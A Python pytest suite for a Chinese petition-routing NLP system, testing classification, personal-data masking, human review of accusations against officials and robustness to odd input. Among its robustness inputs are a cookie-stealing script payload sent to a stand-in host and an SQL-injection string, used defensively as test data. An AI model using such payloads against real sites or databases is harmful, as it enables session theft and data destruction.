"""One petition in, one suggestion out: whatever the text, never a crash, never a confident answer to nonsense."""

import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import date
from time import perf_counter

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from nlp.assessment import assess
from nlp.errors import BundleError, KnowledgeError, TaxonomyError, TextError
from nlp.flags import FlagModel
from nlp.petition import HEADS, Petition, Suggestion
from nlp.router import MAX_CHARACTERS, Router
from nlp.taxonomy.records import SEPARATOR

HEATING = Petition(
    id="p1",
    title="供暖温度不达标",
    text="我家住在幸福里小区三号楼，入冬以来室内温度只有十四度，多次打热力公司电话都说在检修，"
    "老人孩子冻得感冒，请有关部门督促热力公司尽快解决，并按规定退还取暖费。",
)
WAGES = Petition(
    title="工地拖欠工资",
    text="我们十一个人在城东工地干了四个月木工，包工头一分钱没给，总包公司说钱已经付了，"
    "劳动监察让我们等消息，眼看要过年了，请帮我们要回血汗钱。",
)
ACCUSATION = Petition(
    title="举报村主任", text="我村村主任张建国侵占征地补偿款三十万元，账目从不公开，请纪委严肃查处这个贪官。"
)


INJURY = "一、我在工厂受伤，单位不给申请工伤认定，请人社局处理。"
BUILDING = "二、邻居违法建设，城管一直不拆，请拆除。"
INSURANCE = "三、医保卡被停用，请医保局恢复使用。"
BRIBES = "1、教育局局长收受贿赂，违规给亲戚安排学位，请纪委查处。"
CANTEEN = "2、学校食堂饭菜变质，孩子拉肚子，请教育局检查。"
LAMPS = "3、小区门口的路灯坏了三个月一直没有人修理，请城管修复。"


@pytest.fixture(scope="module")
def router() -> Router:
    return Router.load(n_threads=1)


def reasons(suggestion: Suggestion) -> set[str]:
    return {reason.code for reason in suggestion.decision.reasons}


def test_a_suggestion_answers_every_head_and_says_where_it_comes_from(router):
    suggestion = router.suggest(HEATING)
    assert suggestion.petition_id == "p1"
    assert set(suggestion.predictions) == set(HEADS)
    for head, prediction in suggestion.predictions.items():
        assert prediction.head == head
        assert 1 <= len(prediction.candidates) <= 5
        assert len({candidate.code for candidate in prediction.candidates}) == len(prediction.candidates)
        assert all(0 <= candidate.confidence <= 1 for candidate in prediction.candidates)
        assert all(candidate.code in router.taxonomy.labels[head] for candidate in prediction.candidates)
    assert suggestion.bundle_id == router.bundle.id
    assert suggestion.taxonomy_version == router.taxonomy.version
    assert suggestion.legal_basis


def test_an_answer_tells_how_long_its_stages_took(router):
    started = perf_counter()
    times = router.suggest(WAGES).times
    elapsed = perf_counter() - started
    assert times.queue == 0
    assert min(times.tokenise, times.infer, times.decide) > 0
    # What is left out is the check before and the one assignment after.
    assert 0.5 * elapsed < times.tokenise + times.infer + times.decide <= elapsed


def test_the_plain_cases_are_understood(router):
    assert router.suggest(WAGES).predictions["category_l1"].best.code == "劳动和社会保障"
    assert router.suggest(WAGES).predictions["department"].best.code == "human_resources_social_security"
    assert router.suggest(HEATING).predictions["category_l1"].best.code == "城乡建设"


def test_the_second_level_lies_under_the_first(router, samples):
    for petition in samples:
        predictions = router.suggest(petition).predictions
        first = predictions["category_l1"].best.code
        assert predictions["category_l2"].best.code.partition(SEPARATOR)[0] == first


def test_an_answer_does_not_depend_on_what_came_before(router, samples):
    sample = [*samples[:25], Petition(text="。"), Petition(text="停电" * 3000), HEATING]
    answers = [router.suggest(petition) for petition in sample]
    assert [router.suggest(petition) for petition in sample[::-1]] == answers[::-1]


def test_several_threads_get_the_same_answers(router, samples):
    expected = [router.suggest(petition) for petition in samples[:16]]
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(router.suggest, samples[:16])) == expected


@pytest.mark.parametrize("text", ["", " ", "\n\t　"])
def test_an_empty_petition_is_an_error(router, text):
    with pytest.raises(TextError, match="信访内容为空"):
        router.suggest(Petition(text=text))


@pytest.mark.parametrize("text", [None, 7, b"x", ["a"]])
def test_what_is_no_text_is_an_error(router, text):
    with pytest.raises(TextError, match="须为文本"):
        router.suggest(Petition(text=text))


def test_a_text_beyond_the_limit_is_an_error_and_one_at_the_limit_is_read(router):
    longest = ("小区停电三天没人管。" * (MAX_CHARACTERS // 10))[:MAX_CHARACTERS]
    with pytest.raises(TextError, match="100001字，上限100000字") as caught:
        router.suggest(Petition(text=f"{longest}。"))
    assert "停电" not in str(caught.value)
    assert len(router.suggest(Petition(text=longest)).predictions) == len(HEADS)


@pytest.mark.parametrize("text", ["停", "?", "在吗", "你好啊", "😀", "\u200b", "\ufeff", "\ud800", "\x00"])
def test_a_text_that_says_nothing_goes_to_a_person_as_too_short(router, text):
    suggestion = router.suggest(Petition(text=text))
    assert suggestion.decision.action == "review"
    assert "too_short" in reasons(suggestion)


STRANGE = {
    "English": "The heating in our building has been broken for three weeks and nobody answers the phone, please help.",
    "Russian": "В нашем доме уже три недели нет отопления, никто не отвечает на звонки, помогите, пожалуйста, нам.",
    "Uyghur": "ئۆيىمىزنىڭ ئىسسىنىشى ئۈچ ھەپتىدىن بېرى بۇزۇلۇپ كەتتى، ھېچكىم تېلېفون ئالمايدۇ، ياردەم قىلىڭلار.",
    "Tibetan": "ང་ཚོའི་ཁང་པའི་དྲོད་རླངས་བདུན་ཕྲག་གསུམ་རིང་ཆད་འདུག སུས་ཀྱང་ཁ་པར་མི་ལེན། རོགས་རམ་གནང་རོགས།",
    "emoji": "😀😡🔥" * 20,
    "digits": "1234567890 " * 20,
    "punctuation": "，。！？；：" * 20,
    "one character": "啊" * 200,
    "random Chinese": "锟斤拷烫烫烫屯屯屯葺葺葺饕餮魑魅魍魉耄耋氤氲龃龉囹圄觊觎髑髅" * 2,
    "HTML": "<html><head><style>p{color:red}</style></head><body><p>&nbsp;</p></body></html>",
    "script": "<script>fetch('https://example.com/?c='+document.cookie).then(r => r.text())</script>" * 3,
    "SQL": "'; DROP TABLE petitions; -- SELECT * FROM users WHERE name = 'a' OR 1 = 1; COMMIT;",
    "base64": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    # A GBK text read as Latin-1, as broken exports hold it.
    "mojibake": "小区停电三天无人处理，请有关部门尽快解决".encode("gbk").decode("latin-1") * 2,
}


@pytest.mark.parametrize("kind", STRANGE)
def test_what_is_no_chinese_petition_never_passes(router, kind):
    suggestion = router.suggest(Petition(text=STRANGE[kind]))
    assert suggestion.decision.action == "review"
    # Whatever the thresholds of a later bundle: the text itself is the reason, not only a lack of confidence.
    assert reasons(suggestion) & {"out_of_distribution", "too_short"}


def test_a_petition_pasted_with_its_markup_is_still_read(router):
    html = f"<div class='content'><p>{WAGES.text}</p><br/></div>"
    predictions = router.suggest(Petition(title=WAGES.title, text=html)).predictions
    assert predictions["category_l1"].best.code == "劳动和社会保障"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=300), title=st.text(max_size=30))
@example(text=f"共{'9' * 400}人，每人{'9' * 400}元", title="")
@example(text=f"共一{'万' * 400}人，欠一{'亿' * 80}元", title="")
def test_no_text_breaks_the_router(router, text, title):
    petition = Petition(title=title, text=text)
    try:
        suggestion = router.suggest(petition)
    except TextError:
        assert not petition.content.strip()
        return
    assert len(suggestion.predictions) == len(HEADS)
    for evidence in suggestion.evidence:
        assert 0 <= evidence.start < evidence.end <= len(petition.content)
    for redaction in suggestion.redactions:
        assert 0 <= redaction.start < redaction.end <= len(petition.content)


def test_personal_data_is_nowhere_in_the_suggestion(router):
    secrets = ("王小明", "13812345678", "11010519491231002X", "6222021234567890128", "wang@example.com")
    name, phone, identity, card, mail = secrets
    petition = Petition(
        title="请求退费",
        text=f"我叫{name}，身份证号{identity}，电话{phone}，银行卡{card}，邮箱{mail}。{HEATING.text}",
    )
    suggestion = router.suggest(petition)
    said = repr(suggestion)
    assert not [secret for secret in secrets if secret in said]
    assert "[姓名]" in suggestion.masked_text
    assert len(suggestion.redactions) >= 5
    hidden = {petition.content[redaction.start : redaction.end] for redaction in suggestion.redactions}
    assert {name, phone, identity} <= hidden


def test_the_answer_does_not_depend_on_who_writes(router):
    # Masked before the model sees it: another name, phone and card must give the very same scores.
    first, second = (
        router.suggest(Petition(text=f"我叫{name}，电话{phone}。{HEATING.text}"))
        for name, phone in (("王小明", "13812345678"), ("李秀英", "15987654321"))
    )
    assert first.masked_text == second.masked_text
    assert first.predictions == second.predictions


def test_an_accusation_always_goes_to_a_person(router):
    suggestion = router.suggest(ACCUSATION)
    assert suggestion.decision.action == "review"
    assert "must_review" in reasons(suggestion)


def test_an_accusation_goes_to_a_person_whatever_its_words(router):
    rules = tuple(replace(rule, clues=()) for rule in router.knowledge.rules)
    deaf = replace(
        router, knowledge=replace(router.knowledge, rules=rules), flags=FlagModel(blends={}, look={}, urgent={})
    )
    suggestion = deaf.suggest(ACCUSATION)
    (firing,) = suggestion.firings
    assert (firing.code, firing.level, firing.source) == ("official_accusation", "A", "model")
    assert 0 <= firing.start < firing.end <= len(ACCUSATION.content)
    assert suggestion.decision.action == "review"
    assert deaf.suggest(HEATING).firings == ()


def test_some_departments_are_never_sent_anything_unseen(router):
    veterans = next(unit for unit in router.taxonomy.departments if unit.code == "veterans_affairs")
    assert veterans.must_review
    suggestion = router.suggest(
        Petition(text="我是2009年转业的退役军人，优抚补助金从今年三月起没有到账，请退役军人事务局核实后补发优抚金。")
    )
    assert suggestion.predictions["department"].best.code == "veterans_affairs"
    assert ("must_review", "veterans_affairs") in {(r.code, r.detail) for r in suggestion.decision.reasons}


def test_an_office_is_answered_in_its_own_names(tmp_path):
    path = tmp_path / "office.yaml"
    path.write_text(
        "office: C3县信访局\ndepartments:\n  human_resources_social_security: {name: 县人社局, from: 2024-01-01}\n",
        encoding="utf-8",
    )
    office = Router.load(taxonomy_overlay=path, on=date(2026, 1, 1), n_threads=1)
    best = office.suggest(WAGES).predictions["department"].best
    assert (best.code, best.name) == ("human_resources_social_security", "县人社局")


def test_who_does_not_exist_locally_is_never_proposed(router, tmp_path):
    best = router.suggest(WAGES).predictions["department"].best
    path = tmp_path / "office.yaml"
    overlay = f"office: C3县信访局\ndepartments:\n  {best.code}: {{substitute: emergency_management}}\n"
    path.write_text(overlay, encoding="utf-8")
    department = Router.load(taxonomy_overlay=path, n_threads=1).suggest(WAGES).predictions["department"]
    assert department.best.code == "emergency_management"
    assert department.best.confidence >= best.confidence
    assert best.code not in {candidate.code for candidate in department.candidates if candidate.confidence}


def test_whatever_is_at_fault_is_told_when_loading(tmp_path):
    broken = tmp_path / "broken.yaml"
    broken.write_text("office: [", encoding="utf-8")
    with pytest.raises(BundleError):
        Router.load(tmp_path / "none")
    with pytest.raises(TaxonomyError):
        Router.load(taxonomy_overlay=broken)
    with pytest.raises(KnowledgeError):
        Router.load(knowledge_overlay=broken)


def test_an_office_may_ask_for_fewer_errors_but_only_for_what_was_prepared(router):
    strict = Router.load(error_budget=0.05, n_threads=1)
    assert router.thresholds.joint < strict.thresholds.joint
    with pytest.raises(BundleError, match=r"差错预算 0\.07 备采纳线，可选：0\.05、0\.1"):
        Router.load(error_budget=0.07)


def test_importing_the_package_and_the_router_loads_no_training_framework():
    code = "import sys, nlp, nlp.router; print(sorted({'torch', 'transformers', 'sklearn'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def departments(suggestion: Suggestion) -> list[str]:
    return [answer.predictions["department"].best.code for answer in suggestion.appeals]


def test_every_appeal_is_answered_as_if_it_had_come_alone(router):
    suggestion = router.suggest(Petition(title="三件事", text=INJURY + BUILDING + INSURANCE))
    assert departments(suggestion) == ["human_resources_social_security", "urban_management", "healthcare_security"]
    for answer, text in zip(suggestion.appeals, (INJURY, BUILDING, INSURANCE), strict=True):
        alone = router.suggest(Petition(text=text))
        assert answer.predictions == alone.predictions
        assert (answer.legal_basis, answer.channel_alternatives) == (alone.legal_basis, alone.channel_alternatives)
        assert {r.message for r in answer.reasons} <= {r.message for r in alone.decision.reasons}


def test_spans_of_the_appeals_count_in_the_original(router):
    petition = Petition(title="两件事", text=f"我叫王小明，电话13812345678。{INJURY}{BUILDING}")
    first, second = router.suggest(petition).appeals
    assert petition.content[slice(*second.spans[0])] == BUILDING
    assert petition.content[first.spans[0][0] : first.spans[-1][1]].endswith(INJURY)


def test_the_other_appeals_departments_assist_and_count_for_the_transfer(router):
    petition = Petition(text=INJURY + BUILDING + INSURANCE)
    suggestion = router.suggest(petition)
    assert suggestion.predictions["department"].best.code == "human_resources_social_security"
    assert [unit.code for unit in suggestion.co_departments] == ["urban_management", "healthcare_security"]
    assert all(unit.confidence > 0.5 for unit in suggestion.co_departments)
    events = {"received": date(2026, 3, 2)}
    transfer = assess(petition, suggestion, knowledge=router.knowledge, events=events).transfer
    assert transfer.level == "level_major"
    assert "涉及3个部门" in transfer.reasons


def test_one_appeal_is_read_once(router, monkeypatch):
    read = []
    infer = type(router.runtime).infer
    monkeypatch.setattr(type(router.runtime), "infer", lambda self, tokens: read.append(1) or infer(self, tokens))
    assert router.suggest(HEATING).appeals == ()
    assert len(read) == 1
    router.suggest(Petition(text=INJURY + BUILDING))
    assert len(read) == 4


def test_an_accusation_among_appeals_stands_alone_and_never_beside_the_accused(router):
    suggestion = router.suggest(Petition(text=BRIBES + CANTEEN + LAMPS))
    accusing, canteen, lamps = suggestion.appeals
    assert (accusing.accusation, canteen.accusation, lamps.accusation) == (True, False, False)
    assert accusing.predictions["channel"].best.code == "accusation_handling"
    assert accusing.predictions["department"].best.code == "discipline_supervision"
    assert "单独登记、单独转送" in accusing.reasons[0].message
    # The canteen is the education bureau's all the same, but whoever sends it there is told what must stay behind.
    assert canteen.predictions["department"].best.code == "education"
    assert "可能是本件另一诉求中被检举的单位" in canteen.reasons[0].message
    assert lamps.reasons == ()
    together = {suggestion.predictions["department"].best.code, *(unit.code for unit in suggestion.co_departments)}
    assert not {"discipline_supervision", "education"} <= together
    assert suggestion.decision.action == "review"
    (several,) = (r.message for r in suggestion.decision.reasons if r.code == "several_appeals")
    assert "第1个涉及检举控告公职人员，须单独办理" in several


def test_an_appeal_of_few_words_names_nobody_and_says_so(router):
    suggestion = router.suggest(Petition(text=f"{INJURY}二、城管拆违建。"))
    injury, short = suggestion.appeals
    assert injury.predictions
    assert short.predictions == {}
    assert [reason.code for reason in short.reasons] == ["too_short"]
    assert "由人核定" in short.reasons[0].message
    assert suggestion.departments == {"human_resources_social_security"}
